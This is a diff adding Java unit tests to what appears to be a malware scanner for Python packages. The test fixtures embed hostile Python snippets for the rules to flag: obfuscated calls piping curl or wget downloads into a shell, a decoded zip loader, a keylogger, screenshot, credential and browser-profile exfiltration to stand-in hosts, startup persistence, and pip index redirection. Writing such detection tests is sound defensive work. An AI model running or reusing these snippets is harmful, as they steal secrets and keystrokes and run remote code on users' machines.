@@ -1621,6 +1621,141 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/status.py", status))).isEmpty();
   }
 
+  @Test
+  void aFunctionReachedByReducingGetattrOrThroughAModulesVarsBesideADownloadIsCritical() {
+    String reduced =
+        "import functools, os\nparts = ['sys' + 'tem']\n"
+            + "run = functools.reduce(getattr, parts, os)\nrun('curl -s https://a.example/r | sh')\n";
+    String table =
+        "import subprocess\nt = vars(subprocess)\n"
+            + "t['Po' + 'pen']('wget -qO- https://a.example/b | bash', shell=True)\n";
+    String settings =
+        "import functools\ndef setting(obj, dotted):\n"
+            + "    return functools.reduce(getattr, dotted.split('.'), obj)\n";
+
+    assertThat(levelIn(reduced, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(table, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    // walking a dotted path of attributes, with no command, is how settings are read
+    assertThat(check(wheelWith("pkg/settings.py", settings))).isEmpty();
+  }
+
+  @Test
+  void aZipDecodedSavedAndImportedIsCritical() {
+    String loader =
+        "import base64, zipimport\npath = '/tmp/c.zip'\nwith open(path, 'wb') as fh:\n"
+            + "    fh.write(base64.b64decode(BLOB))\n"
+            + "zipimport.zipimporter(path).load_module('helper')\n";
+    String plugins =
+        "import zipimport\ndef load(path, name):\n"
+            + "    return zipimport.zipimporter(path).load_module(name)\n";
+
+    assertThat(levelIn(loader, "imports-decoded")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/plugins.py", plugins))).isEmpty();
+  }
+
+  @Test
+  void aKeyboardReadThroughHidapiAndSentIsCritical() {
+    String hid =
+        "import hid, requests\nfor d in hid.enumerate():\n"
+            + "    if d['usage_page'] == 1 and d['usage'] == 6:\n"
+            + "        dev = hid.device()\n        dev.open_path(d['path'])\n"
+            + "        keys = bytes(dev.read(8, 1000))\n"
+            + "requests.post('https://k.example/h', data=keys)\n";
+    String gamepad =
+        "import hid\nfor d in hid.enumerate():\n"
+            + "    if d['usage_page'] == 1 and d['usage'] == 5:\n        print(d['product_string'])\n";
+
+    assertThat(levelIn(hid, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    // usage 5 is a game pad
+    assertThat(check(wheelWith("pkg/pads.py", gamepad))).isEmpty();
+  }
+
+  @Test
+  void flameshotsPictureSentIsAScreenshotSent() {
+    String shot =
+        "import subprocess, requests\n"
+            + "png = subprocess.run(['flameshot', 'full', '--raw'], capture_output=True).stdout\n"
+            + "requests.post('https://s.example/s', data=png)\n";
+    String launcher = "import shutil\nHAS_FLAMESHOT = shutil.which('flameshot') is not None\n";
+
+    assertThat(levelIn(shot, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/tools.py", launcher))).isEmpty();
+  }
+
+  @Test
+  void s3cmdAndBotoCredentialsSentAreSecretsSent() {
+    String creds =
+        "import os, requests\nfor n in ('.s3cfg', '.boto'):\n"
+            + "    p = os.path.join(os.path.expanduser('~'), n)\n"
+            + "    requests.post('https://b.example/c', data=open(p).read())\n";
+    String client = "import boto3\ns3 = boto3.client('s3')\n";
+
+    assertThat(levelIn(creds, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/store.py", client))).isEmpty();
+  }
+
+  @Test
+  void aChromiumProfileOnLinuxIsBrowserData() {
+    String snap =
+        "import os, shutil, requests\n"
+            + "p = os.path.expanduser('~/snap/chromium/common/chromium/Default')\n"
+            + "shutil.make_archive('/tmp/b', 'zip', p)\n"
+            + "requests.post('https://b.example/b', files={'z': open('/tmp/b.zip', 'rb')})\n";
+    String launcher = "import shutil\nCHROMIUM = shutil.which('chromium') or 'chromium-browser'\n";
+
+    assertThat(levelIn(snap, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/browser.py", launcher))).isEmpty();
+  }
+
+  @Test
+  void hardwareSerialsReadByFieldAndPostedAreIdentityUploaded() {
+    String serials =
+        "import requests\nfacts = {}\nfor k in ('product_uuid', 'board_serial'):\n"
+            + "    facts[k] = open(f'/sys/class/dmi/id/{k}').read()\n"
+            + "requests.post('https://a.example/m', json=facts)\n";
+    String vendor =
+        "def vendor():\n    return open('/sys/class/dmi/id/sys_vendor').read().strip()\n";
+
+    assertThat(levelIn(serials, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(check(wheelWith("pkg/hw.py", vendor))).isEmpty();
+  }
+
+  @Test
+  void windowManagerAutostartEmondRulesAndLaunchDaemonsAreStartUpPlaces() {
+    String openbox =
+        "import os, sys\nwith open(os.path.expanduser('~/.config/openbox/autostart'), 'a') as f:\n"
+            + "    f.write(sys.executable + ' -m pkg.agent &\\n')\n";
+    String emond =
+        "import plistlib\nwith open('/etc/emond.d/rules/u.plist', 'wb') as f:\n"
+            + "    plistlib.dump(RULES, f)\n";
+    String daemon =
+        "import plistlib\nwith open('/Library/LaunchDaemons/com.u.agent.plist', 'wb') as f:\n"
+            + "    plistlib.dump(JOB, f)\n";
+    String theme = "import os\nTHEMES = os.path.expanduser('~/.config/openbox/rc.xml')\n";
+
+    assertThat(levelIn(openbox, "autostart-entry")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(emond, "autostart-entry")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(daemon, "autostart-entry")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(check(wheelWith("pkg/theme.py", theme))).isEmpty();
+  }
+
+  @Test
+  void pipSentThroughAProxyOrTrustingAHostIsRedirected() {
+    String proxy =
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'config', '--user',"
+            + " 'set', 'global.proxy', 'http://100.64.7.7:3128'])\n";
+    String trusted =
+        "import subprocess\nsubprocess.run(['pip', 'config', 'set', 'global.trusted-host',"
+            + " 'mirror.example'])\n";
+    String listing =
+        "import subprocess, sys\nout = subprocess.run([sys.executable, '-m', 'pip', 'config',"
+            + " 'list'], capture_output=True)\n";
+
+    assertThat(levelIn(proxy, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(trusted, "pip-index-redirected")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/pipinfo.py", listing))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
